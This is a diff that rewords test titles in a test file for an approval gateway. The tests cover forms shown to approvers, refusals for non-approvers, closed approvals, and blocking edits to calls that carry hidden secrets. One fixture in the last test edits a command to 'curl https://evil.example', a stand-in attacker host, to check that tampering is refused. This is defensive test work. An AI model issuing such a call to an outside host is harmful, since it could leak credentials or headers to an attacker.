@@ -42,7 +42,7 @@ test("the form has the arguments that the gateway shows to a person who may appr
 	]);
 });
 
-test("a person who may not approve gets no form, but the reason", async () => {
+test("a person without the right to approve gets the reason instead of a form", async () => {
 	const refuse = () => {
 		throw new ParleyError("forbidden: only approvers may approve", { code: "permission_denied" });
 	};
@@ -53,7 +53,7 @@ test("a person who may not approve gets no form, but the reason", async () => {
 	expect(await t.press("edit")).toEqual({ text: "Not accepted: only approvers may approve." });
 });
 
-test("a closed approval and a call that no form can contain have an answer in words", async () => {
+test("a closed approval and a call that does not fit a form get an explanation", async () => {
 	const closed = new QuestionContext([asked, answered({})], listed());
 	expect(await closed.press("edit")).toEqual({
 		text: expect.stringContaining("Already answered:"),
@@ -94,7 +94,7 @@ test("a form that is sent unchanged approves the unchanged call", async () => {
 	expect(t.gateway.asked.at(-1)?.params).toEqual({ token, key: "key", value: "once", ...behalf });
 });
 
-test("a call that got a hidden secret since the form was opened is not edited", async () => {
+test("a call that received a hidden secret after the form was opened is not edited", async () => {
 	const t = new QuestionContext([asked], listed({ cmd: "curl -H [redacted]" }));
 	const reply = await t.press("edit", { fields: { "t:cmd": "curl https://evil.example" } });
 	expect(reply).toEqual({ text: expect.stringContaining("cannot be edited here") });
